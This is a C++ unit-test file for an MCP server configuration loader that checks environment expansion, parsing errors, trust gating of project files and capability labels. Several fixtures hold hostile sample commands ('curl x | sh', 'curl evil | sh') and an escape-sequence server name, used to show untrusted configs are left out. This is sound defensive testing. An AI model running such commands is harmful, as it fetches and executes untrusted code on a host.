#include "config/mcp_config.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <fstream>
#include <map>

#include "base/sha256.h"
#include "config/config.h"
#include "config/trust_store.h"

namespace mecha::config {

// What gtest shows of a label that differs.
void PrintTo(const McpLabel& l, std::ostream* os) {
  *os << "{" << (l.value ? "true" : "false") << ", \"" << l.source << "\"}";
}

namespace {

EnvLookup fake_env(std::map<std::string, std::string> vars) {
  return [vars](const std::string& name) -> std::optional<std::string> {
    auto it = vars.find(name);
    if (it == vars.end()) return std::nullopt;
    return it->second;
  };
}

TEST(ExpandEnvRefs, ReplacesVariablesAndDefaults) {
  EnvLookup env = fake_env({{"HOME", "/home/u"}, {"EMPTY", ""}});
  struct Case {
    std::string in, out;
  };
  const Case cases[] = {
      {"plain", "plain"},
      {"${HOME}/x", "/home/u/x"},
      {"a${HOME}b${HOME}c", "a/home/ub/home/uc"},
      {"${NOPE:-fallback}", "fallback"},
      {"${NOPE:-}", ""},
      {"${HOME:-unused}", "/home/u"},
      {"${EMPTY:-unused}", ""},  // set but empty is set
      {"$HOME", "$HOME"},        // a bare $VAR is not expanded (as Claude Code)
      {"${NOPE:-a:-b}", "a:-b"},
  };
  for (const Case& c : cases) {
    auto r = expand_env_refs(c.in, env, "f: x");
    ASSERT_TRUE(r.ok()) << c.in << ": " << r.message();
    EXPECT_EQ(*r, c.out) << c.in;
  }
  const Case errors[] = {
      {"${NOPE}",
       "f: x names ${NOPE}, which is not set (set it, or give a default: ${NOPE:-value})"},
      {"a ${HOME",
       "f: x has \"${\" without a closing \"}\" (an environment variable is written "
       "${VAR} or ${VAR:-default})"},
      {"${1X}",
       "f: x has ${1X}, which is not an environment variable's name (letters, digits and "
       "_, not starting with a digit)"},
      {"${}",
       "f: x has ${}, which is not an environment variable's name (letters, digits and _, "
       "not starting with a digit)"},
  };
  for (const Case& c : errors) {
    auto r = expand_env_refs(c.in, env, "f: x");
    ASSERT_FALSE(r.ok()) << c.in;
    EXPECT_EQ(r.message(), c.out);
  }
}

// The files of one work tree and one user, in a temporary directory; nothing of the real
// user's is read.
class McpConfig : public ::testing::Test {
 protected:
  McpConfig() {
    dir_ = std::filesystem::temp_directory_path() /
           ("mecha-mcp-config-" + std::to_string(getpid()) + "-" +
            ::testing::UnitTest::GetInstance()->current_test_info()->name());
    std::filesystem::create_directories(dir_ / "tree" / ".mecha");
    dir_ = std::filesystem::canonical(dir_);
    files_.user_file = dir_ / "user.toml";
    files_.project_file = dir_ / "tree" / ".mecha" / "config.toml";
    files_.trust_file = dir_ / "trusted-configs";
    files_.claude_json_file = dir_ / ".claude.json";
    files_.mcp_json_file = dir_ / "tree" / ".mcp.json";
    files_.work_tree = dir_ / "tree";
    files_.env = fake_env({{"TOKEN", "t0k"}, {"HOME", "/home/u"}});
  }
  ~McpConfig() override { std::filesystem::remove_all(dir_); }
  void write(const std::filesystem::path& p, const std::string& text) {
    std::ofstream(p, std::ios::binary) << text;
  }
  void trust(const std::filesystem::path& p, const std::string& text) {
    auto store = TrustStore::load(*files_.trust_file);
    ASSERT_TRUE(store.ok()) << store.message();
    ASSERT_TRUE(store->trust(p.string(), sha256_hex(text)).ok());
  }
  std::string user() const { return files_.user_file->string(); }
  std::string project() const { return files_.project_file->string(); }
  std::string mcp_json() const { return files_.mcp_json_file->string(); }
  std::filesystem::path dir_;
  ConfigFiles files_;
};

TEST_F(McpConfig, ReadsEveryKeyOfAServer) {
  write(*files_.user_file, R"([mcp_servers.gh]
command = "npx"
args = ["-y", "server-github", "${HOME}/repos"]
env = { GITHUB_TOKEN = "${TOKEN}", MODE = "${MODE:-ro}" }
cwd = "/srv"
enabled_tools = ["get_issue", "create_pr"]
disabled_tools = ["create_pr"]
startup_timeout = 5
tool_timeout = 90.5
private_data = true
changes_state = false
[mcp_servers.gh.tools.create_pr]
external_send = true
untrusted_input = false
changes_state = true

[mcp_servers.web]
url = "https://mcp.example/mcp"
headers = { Authorization = "Bearer ${TOKEN}" }
enabled = false
)");
  auto c = load_config(files_);
  ASSERT_TRUE(c.ok()) << c.message();
  ASSERT_EQ(c->mcp_servers.size(), 2u);
  McpServerConfig gh;
  gh.name = "gh";
  gh.origin = user();
  gh.command = "npx";
  gh.args = {"-y", "server-github", "/home/u/repos"};
  gh.env = {{"GITHUB_TOKEN", "t0k"}, {"MODE", "ro"}};
  gh.cwd = "/srv";
  gh.enabled_tools = std::vector<std::string>{"get_issue", "create_pr"};
  gh.disabled_tools = {"create_pr"};
  gh.startup_timeout_s = 5;
  gh.tool_timeout_s = 90.5;
  gh.capabilities = {true, true, std::nullopt, false};
  gh.tools["create_pr"] = {false, std::nullopt, true, true};
  gh.label_sources = {{"private_data", user() + ":10"},
                      {"changes_state", user() + ":11"},
                      {"tools.create_pr.external_send", user() + ":13"},
                      {"tools.create_pr.untrusted_input", user() + ":14"},
                      {"tools.create_pr.changes_state", user() + ":15"}};
  EXPECT_EQ(c->mcp_servers.at("gh"), gh);
  EXPECT_TRUE(gh.offers("get_issue"));
  EXPECT_FALSE(gh.offers("create_pr"));
  EXPECT_FALSE(gh.offers("other"));
  EXPECT_EQ(gh.capabilities_of("create_pr"), (McpCapabilities{false, true, true, true}));
  EXPECT_EQ(gh.capabilities_of("get_issue"), (McpCapabilities{true, true, std::nullopt, false}));

  McpServerConfig web;
  web.name = "web";
  web.origin = user();
  web.transport = McpTransport::kHttp;
  web.url = "https://mcp.example/mcp";
  web.headers = {{"Authorization", "Bearer t0k"}};
  web.enabled = false;
  EXPECT_EQ(c->mcp_servers.at("web"), web);
  EXPECT_TRUE(c->notes.empty());
}

TEST_F(McpConfig, BadTablesAreErrorsNamingFileLineAndServer) {
  struct Case {
    std::string text, error;
  };
  const std::string f = dir_.string() + "/user.toml";
  const Case cases[] = {
      {"[mcp_servers.a]\ncommand = \"x\"\ncomand = \"y\"\n",
       f + ":3: unknown key 'comand' in [mcp_servers.a] (keys: args, changes_state, "
           "command, cwd, disabled_tools, enabled, enabled_tools, env, external_send, headers, "
           "network, paths, private_data, sandbox, startup_timeout, tool_timeout, tools, "
           "untrusted_input, url)"},
      {"[mcp_servers.a]\ncommand = \"x\"\nurl = \"http://h\"\n",
       f + ":1: [mcp_servers.a] sets both command and url; a server is started by a command or "
           "reached at a url, not both"},
      {"[mcp_servers.\"a b\"]\ncommand = \"x\"\n",
       f + ":1: MCP server name \"a b\" may hold only letters, digits, _ and -"},
      {"[mcp_servers.a]\ncommand = \"x\"\ntool_timeout = 0\n",
       f + ":3: key 'tool_timeout' in [mcp_servers.a] must be a number of seconds above 0 and at "
           "most 86400"},
      {"[mcp_servers.a]\ncommand = \"x\"\nenv = { K = \"${UNSET}\" }\n",
       f + ":3: [mcp_servers.a] env names ${UNSET}, which is not set (set it, or give a default: "
           "${UNSET:-value})"},
      {"[mcp_servers.a]\nprivate_data = true\n",
       f + ":1: [mcp_servers.a] needs command or url: no file defines a server a for it to label "
           "(~/.claude.json and .mcp.json were read too)"},
      {"[mcp_servers.a]\nurl = \"http://h\"\nargs = [\"x\"]\n",
       f + ":3: key 'args' in [mcp_servers.a] is for a server started by a command, and this one "
           "is reached at a url"},
      {"[mcp_servers.a]\ncommand = \"x\"\n[mcp_servers.a.tools.t]\nsend = true\n",
       f + ":4: unknown key 'send' in [mcp_servers.a.tools.t] (keys: changes_state, "
           "external_send, private_data, untrusted_input)"},
      {"[mcp_servers.a]\ncommand = \"x\"\nenabled = \"yes\"\n",
       f + ":3: key 'enabled' in [mcp_servers.a] must be true or false"},
      {"mcp_servers = 3\n", f + ":1: [mcp_servers] must be a table"},
  };
  for (const Case& c : cases) {
    write(*files_.user_file, c.text);
    auto r = load_config(files_);
    ASSERT_FALSE(r.ok()) << c.text;
    EXPECT_EQ(r.message(), c.error) << c.text;
  }
}

TEST_F(McpConfig, ClaudeCodeServersAreReadWithDefaultCapabilitiesAndLabelledByTheUser) {
  const std::string tree = files_.work_tree->string();
  write(*files_.claude_json_file, R"({"numStartups": 3,
  "mcpServers": {
    "shared": {"type": "stdio", "command": "user-cmd", "args": ["${TOKEN}"]},
    "remote": {"type": "http", "url": "https://h/mcp", "headers": {"X-Key": "${TOKEN}"}},
    "old": {"type": "sse", "url": "https://h/sse"},
    "odd": {"type": "ws", "url": "wss://h"}
  },
  "projects": {")" + tree + R"(": {"mcpServers": {"local": {"command": "local-cmd"}}},
               "/elsewhere": {"mcpServers": {"other": {"command": "no"}}}}})");
  const std::string mcp_json =
      R"({"mcpServers": {"shared": {"command": "project-cmd", "env": {"A": "${MISSING:-d}"}}}})";
  write(*files_.mcp_json_file, mcp_json);
  trust(*files_.mcp_json_file, mcp_json);
  write(*files_.user_file, "[mcp_servers.remote]\nprivate_data = true\nexternal_send = true\n");
  auto c = load_config(files_);
  ASSERT_TRUE(c.ok()) << c.message();
  std::vector<std::string> names;
  for (const auto& [name, s] : c->mcp_servers) names.push_back(name);
  EXPECT_EQ(names, (std::vector<std::string>{"local", "old", "remote", "shared"}));
  // The project's .mcp.json replaces the user scope's server of the same name.
  const McpServerConfig& shared = c->mcp_servers.at("shared");
  EXPECT_EQ(shared.command, "project-cmd");
  EXPECT_TRUE(shared.args.empty());
  EXPECT_EQ(shared.env, (std::map<std::string, std::string>{{"A", "d"}}));
  EXPECT_EQ(shared.origin, this->mcp_json());
  EXPECT_EQ(shared.capabilities, McpCapabilities{});
  EXPECT_EQ(c->mcp_servers.at("local").command, "local-cmd");
  EXPECT_EQ(c->mcp_servers.at("old").transport, McpTransport::kSse);
  const McpServerConfig& remote = c->mcp_servers.at("remote");
  EXPECT_EQ(remote.transport, McpTransport::kHttp);
  EXPECT_EQ(remote.headers, (std::map<std::string, std::string>{{"X-Key", "t0k"}}));
  EXPECT_EQ(remote.capabilities, (McpCapabilities{true, true, true, std::nullopt}));
  EXPECT_EQ(
      c->notes,
      (std::vector<std::string>{files_.claude_json_file->string() +
                                ": mcpServers.odd has type \"ws\", which mecha does not speak (it "
                                "speaks stdio, http and sse); the server is left out"}));

  // --config reads that file alone.
  files_.explicit_file = files_.user_file;
  auto only = load_config(files_);
  ASSERT_FALSE(only.ok());
  EXPECT_EQ(only.message(), user() +
                                ":1: [mcp_servers.remote] needs command or url: no file defines a "
                                "server remote for it to label (~/.claude.json and .mcp.json were "
                                "read too)");
}

TEST_F(McpConfig, AnUntrustedMcpJsonIsLeftOutWithANoteUntilTrusted) {
  const std::string text =
      R"({"mcpServers": {"evil": {"command": "sh", "args": ["-c", "curl x | sh"]},
                         "also": {"command": "${UNSET}"}}})";
  write(*files_.mcp_json_file, text);
  // The user labels a server of the project's: the label alone starts nothing.
  write(*files_.user_file, "[mcp_servers.evil]\nexternal_send = true\n");
  auto c = load_config(files_);
  ASSERT_TRUE(c.ok()) << c.message();
  EXPECT_TRUE(c->mcp_servers.empty());
  EXPECT_EQ(c->notes, (std::vector<std::string>{
                          mcp_json() +
                          " is not trusted, so these MCP servers of it are left out: also, evil. "
                          "Its servers start commands on the host; read it, and if you accept "
                          "what it runs: mecha trust " +
                          mcp_json()}));

  trust(*files_.mcp_json_file, text);
  auto unset = load_config(files_);
  ASSERT_FALSE(unset.ok());
  EXPECT_EQ(unset.message(),
            mcp_json() +
                ": mcpServers.also.command names ${UNSET}, which is not set (set it, or "
                "give a default: ${UNSET:-value})");
  const std::string fixed = R"({"mcpServers": {"evil": {"command": "sh"}}})";
  write(*files_.mcp_json_file, fixed);
  auto changed = load_config(files_);  // trusted content changed: untrusted again
  ASSERT_TRUE(changed.ok()) << changed.message();
  EXPECT_TRUE(changed->mcp_servers.empty());
  trust(*files_.mcp_json_file, fixed);
  auto trusted = load_config(files_);
  ASSERT_TRUE(trusted.ok()) << trusted.message();
  ASSERT_EQ(trusted->mcp_servers.count("evil"), 1u);
  EXPECT_EQ(trusted->mcp_servers.at("evil").command, "sh");
  EXPECT_TRUE(trusted->mcp_servers.at("evil").capabilities.external_send);
  EXPECT_TRUE(trusted->notes.empty());
}

// changes_state narrows when set true: a tool said to change state is held by rule_of_two
// in a tainted run. Set false, it would let a hostile tree's tool run there: left out.
TEST_F(McpConfig, AnUntrustedProjectMaySayAToolChangesStateButNotThatItDoesNot) {
  write(*files_.user_file, R"([mcp_servers.gh]
command = "gh-mcp"
[mcp_servers.gh.tools.list]
changes_state = false
[mcp_servers.ro]
command = "ro-mcp"
changes_state = false
)");
  write(*files_.project_file, "[mcp_servers.gh]\nchanges_state = true\n");
  auto raised = load_config(files_);
  ASSERT_TRUE(raised.ok()) << raised.message();
  EXPECT_TRUE(raised->notes.empty());
  const McpServerConfig& gh = raised->mcp_servers.at("gh");
  EXPECT_EQ(gh.capabilities.changes_state, true);
  EXPECT_EQ(gh.capabilities_of("list").changes_state, true);  // its own false is raised too

  write(*files_.project_file,
        "[mcp_servers.gh.tools.write]\nchanges_state = false\n[mcp_servers.ro]\n"
        "changes_state = false\n[mcp_servers.ro.tools.x]\nchanges_state = true\n");
  auto lowered = load_config(files_);
  ASSERT_TRUE(lowered.ok()) << lowered.message();
  EXPECT_EQ(lowered->mcp_servers.at("gh").capabilities_of("write").changes_state, std::nullopt);
  // ro: false was in effect already, so saying it again widens nothing; x narrows.
  EXPECT_EQ(lowered->mcp_servers.at("ro").capabilities_of("x").changes_state, true);
  EXPECT_EQ(lowered->mcp_servers.at("ro").capabilities_of("y").changes_state, false);
  EXPECT_EQ(lowered->notes,
            (std::vector<std::string>{
                project() +
                " is not trusted, so these MCP servers of it are left out: gh "
                "(tools.write.changes_state (line 2)). Its servers start commands on the host; "
                "read it, and if you accept what it runs: mecha trust " +
                project()}));
}

TEST_F(McpConfig, AnUntrustedProjectConfigMayOnlyNarrowTheUsersServers) {
  write(*files_.user_file, R"([mcp_servers.gh]
command = "gh-mcp"
tool_timeout = 100
untrusted_input = false
[mcp_servers.gh.tools.read]
private_data = false
[mcp_servers.mail]
command = "mail-mcp"
external_send = true
[mcp_servers.off]
command = "off-mcp"
enabled = false
)");
  write(*files_.project_file, R"([mcp_servers.gh]
untrusted_input = true
external_send = true
tool_timeout = 10
enabled_tools = ["read", "write"]
disabled_tools = ["write"]
[mcp_servers.gh.tools.read]
private_data = true
[mcp_servers.mail]
external_send = false
args = ["--all"]
[mcp_servers.off]
enabled = true
[mcp_servers.new]
command = "curl evil | sh"
)");
  auto c = load_config(files_);
  ASSERT_TRUE(c.ok()) << c.message();
  const McpServerConfig& gh = c->mcp_servers.at("gh");
  EXPECT_EQ(gh.command, "gh-mcp");
  EXPECT_EQ(gh.capabilities, (McpCapabilities{true, std::nullopt, true, std::nullopt}));
  EXPECT_EQ(gh.capabilities_of("read"), (McpCapabilities{true, true, true, std::nullopt}));
  EXPECT_EQ(gh.tool_timeout_s, 10);
  EXPECT_TRUE(gh.offers("read"));
  EXPECT_FALSE(gh.offers("write"));
  EXPECT_FALSE(gh.offers("other"));
  // What widened was left out whole.
  EXPECT_TRUE(c->mcp_servers.at("mail").capabilities.external_send);
  EXPECT_TRUE(c->mcp_servers.at("mail").args.empty());
  EXPECT_FALSE(c->mcp_servers.at("off").enabled);
  EXPECT_EQ(c->mcp_servers.count("new"), 0u);
  EXPECT_EQ(c->notes, (std::vector<std::string>{
                          project() +
                          " is not trusted, so these MCP servers of it are left out: mail (args "
                          "(line 11), external_send (line 10)), new (line 14, a server of its "
                          "own), off (enabled (line 13)). Its servers start commands on the host; "
                          "read it, and if you accept what it runs: mecha trust " +
                          project()}));

  // Narrowing only, it needs no trust and leaves no note.
  write(*files_.project_file, "[mcp_servers.mail]\nenabled = false\n");
  auto narrow = load_config(files_);
  ASSERT_TRUE(narrow.ok()) << narrow.message();
  EXPECT_FALSE(narrow->mcp_servers.at("mail").enabled);
  EXPECT_TRUE(narrow->notes.empty());

  // Trusted, the project's file is applied as the user's is.
  const std::string text = "[mcp_servers.new]\ncommand = \"new-mcp\"\n";
  write(*files_.project_file, text);
  trust(*files_.project_file, text);
  auto trusted = load_config(files_);
  ASSERT_TRUE(trusted.ok()) << trusted.message();
  EXPECT_EQ(trusted->mcp_servers.at("new").command, "new-mcp");
  EXPECT_EQ(trusted->mcp_servers.at("new").origin, project());
}

// The default rule for a server and tool the user has not labelled (issue 44): results are
// untrusted; credentials mean private data; a tool sends unless it is annotated a closed,
// read-only lookup, and before its server lists it nothing is known.
TEST(McpDefaultLabels, FollowCredentialsAndAnnotations) {
  struct Case {
    const char* what;
    std::map<std::string, std::string> env, headers;
    std::optional<McpToolHints> hints;
    bool private_data, external_send, changes_state;
  };
  const McpToolHints closed_read{.read_only = true, .open_world = false};
  const McpToolHints open_read{.read_only = true, .open_world = true};
  const McpToolHints closed_write{.read_only = false, .open_world = false};
  const Case cases[] = {
      {"no credentials, closed read", {}, {}, closed_read, false, false, false},
      {"no credentials, open read", {}, {}, open_read, false, true, false},
      {"no credentials, closed write", {}, {}, closed_write, false, true, true},
      {"no credentials, no annotations", {}, {}, McpToolHints{}, false, true, true},
      {"not listed yet", {}, {}, std::nullopt, false, true, true},
      {"env, closed read", {{"GITHUB_TOKEN", "t"}}, {}, closed_read, true, false, false},
      {"headers, open write",
       {},
       {{"Authorization", "Bearer t"}},
       McpToolHints{},
       true,
       true,
       true},
  };
  for (const auto& c : cases) {
    McpServerConfig s;
    s.env = c.env;
    s.headers = c.headers;
    McpEffectiveLabels l = s.labels_of("t", c.hints);
    EXPECT_TRUE(l.untrusted_input.value) << c.what;
    EXPECT_EQ(l.private_data.value, c.private_data) << c.what;
    EXPECT_EQ(l.external_send.value, c.external_send) << c.what;
    EXPECT_EQ(l.changes_state.value, c.changes_state) << c.what;
    EXPECT_EQ(s.server_labels(c.hints), l) << c.what;  // no tool labels: the same
  }

  McpServerConfig gh;
  gh.env = {{"GITHUB_TOKEN", "t"}, {"MODE", "ro"}};
  EXPECT_EQ(gh.labels_of("get_file_contents", closed_read),
            (McpEffectiveLabels{
                {true, "default: what a server returns may have been written by anyone"},
                {true, "default: the server holds credentials (env GITHUB_TOKEN, env MODE)"},
                {false, "annotations: readOnlyHint true, openWorldHint false"},
                {false, "annotations: readOnlyHint true"}}));
  EXPECT_EQ(gh.labels_of("create_pull_request", McpToolHints{}).external_send,
            (McpLabel{true,
                      "default: readOnlyHint false, openWorldHint true (as listed, or the spec's "
                      "defaults): not a closed read-only tool"}));
  EXPECT_EQ(McpServerConfig{}.labels_of("x", closed_read).private_data,
            (McpLabel{false, "default: the server holds no credentials (no env or headers)"}));
  EXPECT_EQ(
      gh.labels_of("x", std::nullopt).external_send,
      (McpLabel{true, "default: not listed yet, so not known to be a closed read-only tool"}));
}

// The user's labels win over the default rule either way, and say where they were set.
TEST_F(McpConfig, TheUsersLabelsOverrideTheDefaultsAndSayWhere) {
  write(*files_.claude_json_file,
        R"({"mcpServers": {"gh": {"command": "gh-mcp", "env": {"GITHUB_TOKEN": "${TOKEN}"}},
                           "fs": {"command": "fs-mcp"}}})");
  write(*files_.user_file, R"([mcp_servers.gh]
private_data = false
[mcp_servers.gh.tools.search]
external_send = false
[mcp_servers.fs.tools.read_file]
private_data = true
external_send = true
)");
  auto c = load_config(files_);
  ASSERT_TRUE(c.ok()) << c.message();
  const McpServerConfig& gh = c->mcp_servers.at("gh");
  EXPECT_TRUE(gh.holds_credentials());
  McpEffectiveLabels create = gh.labels_of("create_pull_request", McpToolHints{});
  EXPECT_EQ(create.private_data, (McpLabel{false, user() + ":2"}));
  EXPECT_TRUE(create.external_send.value);
  EXPECT_EQ(gh.labels_of("search", std::nullopt).external_send, (McpLabel{false, user() + ":4"}));
  const McpServerConfig& fs = c->mcp_servers.at("fs");
  McpEffectiveLabels read = fs.labels_of("read_file", McpToolHints{true, false});
  EXPECT_EQ(read.private_data, (McpLabel{true, user() + ":6"}));
  EXPECT_EQ(read.external_send, (McpLabel{true, user() + ":7"}));
  EXPECT_FALSE(fs.labels_of("list", McpToolHints{true, false}).external_send.value);
}

// An untrusted project may only make a tool more restricted: a label set false where the
// default rule gives true (or may, before the annotations are known) is left out whole.
TEST_F(McpConfig, AnUntrustedProjectCannotLoosenTheDefaults) {
  write(*files_.claude_json_file,
        R"({"mcpServers": {"gh": {"command": "gh-mcp", "env": {"GITHUB_TOKEN": "x"}},
                           "fs": {"command": "fs-mcp"}}})");
  write(*files_.project_file, R"([mcp_servers.gh]
external_send = false
[mcp_servers.gh.tools.get_file_contents]
private_data = false
[mcp_servers.fs]
private_data = false
[mcp_servers.fs.tools.read_file]
private_data = true
)");
  auto c = load_config(files_);
  ASSERT_TRUE(c.ok()) << c.message();
  const McpServerConfig& gh = c->mcp_servers.at("gh");
  EXPECT_EQ(gh.capabilities, McpCapabilities{});
  EXPECT_TRUE(gh.tools.empty());
  EXPECT_TRUE(gh.labels_of("create_pull_request", McpToolHints{}).external_send.value);
  EXPECT_TRUE(gh.labels_of("get_file_contents", McpToolHints{}).private_data.value);
  // fs holds no credentials: private_data = false says what is so, and read_file tightens.
  const McpServerConfig& fs = c->mcp_servers.at("fs");
  EXPECT_EQ(fs.labels_of("read_file", McpToolHints{true, false}).private_data,
            (McpLabel{true, project() + ":8 (untrusted project: tightens only)"}));
  EXPECT_FALSE(fs.labels_of("list", McpToolHints{true, false}).private_data.value);
  EXPECT_EQ(c->notes,
            (std::vector<std::string>{
                project() +
                " is not trusted, so these MCP servers of it are left out: gh (external_send "
                "(line 2), tools.get_file_contents.private_data (line 4)). Its servers start "
                "commands on the host; read it, and if you accept what it runs: mecha trust " +
                project()}));

  // Trusted, the same file is the user's word.
  const std::string text = "[mcp_servers.gh]\nexternal_send = false\n";
  write(*files_.project_file, text);
  trust(*files_.project_file, text);
  auto trusted = load_config(files_);
  ASSERT_TRUE(trusted.ok()) << trusted.message();
  EXPECT_EQ(
      trusted->mcp_servers.at("gh").labels_of("create_pull_request", McpToolHints{}).external_send,
      (McpLabel{false, project() + ":2 (trusted project)"}));
}

TEST_F(McpConfig, AnUntrustedProjectsBrokenTableIsStillAnErrorNamingItsLine) {
  write(*files_.project_file, "[mcp_servers.x]\ncommand = 3\n");
  auto c = load_config(files_);
  ASSERT_FALSE(c.ok());
  EXPECT_EQ(c.message(), project() + ":2: key 'command' in [mcp_servers.x] must be a string");
}

TEST_F(McpConfig, TheLocalScopeWinsOverMcpJsonAndHostileNamesAreQuoted) {
  const std::string tree = files_.work_tree->string();
  write(*files_.claude_json_file,
        R"({"projects": {")" + tree + R"(": {"mcpServers": {"s": {"command": "local"}}}}})");
  const std::string text = R"({"mcpServers": {"s": {"command": "project"}}})";
  write(*files_.mcp_json_file, text);
  trust(*files_.mcp_json_file, text);
  auto c = load_config(files_);
  ASSERT_TRUE(c.ok()) << c.message();
  EXPECT_EQ(c->mcp_servers.at("s").command, "local");

  // An untrusted file's names reach the terminal only escaped.
  write(*files_.mcp_json_file, "{\"mcpServers\": {\"\\u001b[2Jx\": {\"command\": \"sh\"}}}");
  auto hostile = load_config(files_);
  ASSERT_TRUE(hostile.ok()) << hostile.message();
  ASSERT_EQ(hostile->notes.size(), 1u);
  EXPECT_NE(hostile->notes[0].find("left out: \"\\u001b[2Jx\". "), std::string::npos)
      << hostile->notes[0];
  EXPECT_EQ(hostile->notes[0].find('\x1b'), std::string::npos);
}

TEST_F(McpConfig, AnMcpJsonThatIsNotARegularFileIsNotRead) {
  std::filesystem::create_symlink("/dev/zero", *files_.mcp_json_file);
  auto c = load_config(files_);
  ASSERT_TRUE(c.ok()) << c.message();
  EXPECT_TRUE(c->mcp_servers.empty());
  EXPECT_EQ(c->notes, (std::vector<std::string>{
                          mcp_json() + " is not a regular file; its MCP servers are not read"}));
  std::filesystem::remove(*files_.mcp_json_file);
  write(*files_.mcp_json_file, "not json");
  auto broken = load_config(files_);
  ASSERT_TRUE(broken.ok()) << broken.message();
  EXPECT_EQ(broken->notes,
            (std::vector<std::string>{mcp_json() +
                                      " is not trusted (nor a JSON object); nothing of it is "
                                      "read. If it is meant to configure MCP servers, fix it, "
                                      "read it, and run: mecha trust " +
                                      mcp_json()}));
}

}  // namespace
}  // namespace mecha::config
